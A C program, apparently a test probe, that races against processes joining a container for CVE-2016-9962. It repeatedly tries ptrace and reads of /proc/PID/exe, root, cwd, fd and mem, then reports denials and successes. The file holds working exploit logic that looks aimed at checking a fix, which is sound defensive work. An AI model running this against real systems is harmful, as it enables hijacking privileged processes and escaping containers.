/*
 * An app that attacks whoever is brought into its pod (CVE-2016-9962): reads process numbers from standard
 * input, and hammers on each until the process has executed a program of the image or is gone: ptrace, and
 * /proc/PID/{exe,root,cwd,fd,mem}. It is told the numbers so that it loses no time in guessing them.
 *
 * Prints "denied N": how often it was turned away while the process was the attacker's own user already, in
 * the pod and not yet a program of the image; and "got WHAT" for each success.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

/* The effective user; -1 when there is no such process. */
static int user_of(const char *pid, unsigned *uid)
{
    char path[64], text[4096];
    snprintf(path, sizeof path, "/proc/%s/status", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return -1;
    ssize_t got = read(fd, text, sizeof text - 1);
    close(fd);
    if (got <= 0)
        return -1;
    text[got] = 0;
    char *line = strstr(text, "\nUid:");
    return line && sscanf(line, "\nUid:%*u%u", uid) == 1 ? 0 : -1;
}

/* Is it a program of the image by now, or gone? Then its own user may look, and there is nothing to find. */
static int of_image(const char *pid)
{
    char path[64], text[256];
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    ssize_t got = readlink(path, text, sizeof text - 1);
    if (got < 0)
        return errno == ENOENT || errno == ESRCH;
    text[got] = 0;
    return strcmp(text, "/bin/busybox") == 0;
}

static int hits;

static void success(const char *pid, const char *what)
{
    /* It may have become the image's between the two looks: that is no success. */
    if (of_image(pid))
        return;
    if (hits++ < 20)
        printf("got %s\n", what);
}

static void hammer(const char *pid, unsigned own, long *denied)
{
    for (;;) {
        unsigned before, after;
        if (user_of(pid, &before) < 0 || of_image(pid))
            return;
        char path[64], text[4096];
        int turned_away = 0;
        for (const char **what = (const char *[]){"exe", "root", "cwd", "fd/0", NULL}; *what; what++) {
            snprintf(path, sizeof path, "/proc/%s/%s", pid, *what);
            if (readlink(path, text, sizeof text) >= 0)
                success(pid, *what);
            else if (errno == EACCES || errno == EPERM)
                turned_away++;
        }
        snprintf(path, sizeof path, "/proc/%s/mem", pid);
        int mem = open(path, O_RDWR);
        if (mem >= 0) {
            success(pid, "mem");
            close(mem);
        } else if (errno == EACCES || errno == EPERM)
            turned_away++;
        if (ptrace(PTRACE_SEIZE, atoi(pid), 0, 0) == 0) {
            success(pid, "ptrace");
            /* A tracee that ends waits for its tracer. */
            ptrace(PTRACE_INTERRUPT, atoi(pid), 0, 0);
            int status;
            if (waitpid(atoi(pid), &status, __WALL) > 0 && WIFSTOPPED(status))
                ptrace(PTRACE_DETACH, atoi(pid), 0, 0);
            return;
        }
        if (turned_away == 5 && before == own && user_of(pid, &after) == 0 && after == own)
            ++*denied;
    }
}

int main(void)
{
    unsigned own;
    char pid[32];
    long denied = 0;
    if (user_of("self", &own) < 0)
        return 2;
    setvbuf(stdout, NULL, _IOLBF, 0);
    puts("up");
    while (fgets(pid, sizeof pid, stdin)) {
        pid[strcspn(pid, "\n")] = 0;
        hammer(pid, own, &denied);
        puts("next");
    }
    printf("denied %ld\n", denied);
    return hits > 0;
}
